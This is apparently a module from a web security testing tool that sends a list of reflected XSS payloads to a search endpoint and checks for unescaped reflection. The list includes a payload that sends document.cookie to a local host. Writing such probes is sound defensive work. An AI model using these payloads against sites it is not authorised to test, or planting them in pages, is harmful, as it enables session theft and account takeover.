/**
 * xss: reflected cross-site scripting probes through the search term, with the usual
 * polyglots and event-handler payloads.
 */
import { ATTACK_USER_AGENTS } from '../user-agents.js';
import type { AttackScenario } from './types.js';

const PAYLOADS = [
  '<script>alert(document.domain)</script>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  "javascript:alert('xss')",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  "'\"><img src=x onerror=fetch('//127.0.0.1/c?'+document.cookie)>",
  '<details open ontoggle=alert(1)>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
];

export const xss: AttackScenario = {
  name: 'xss',
  description: 'Sends reflected XSS payloads in the search term and checks whether they come back unescaped.',
  maxRequests: PAYLOADS.length,
  maxDurationMs: 30_000,
  ratePerSecond: 10,
  async run(ctx) {
    const client = ctx.client(ATTACK_USER_AGENTS.headless);
    for (const payload of PAYLOADS) {
      const res = await client.get(`/search?q=${encodeURIComponent(payload)}`);
      // Only payloads with markup characters prove anything when they come back verbatim.
      if (/[<>"']/.test(payload) && res.body.includes(payload)) ctx.note('reflected_unescaped');
    }
  },
};
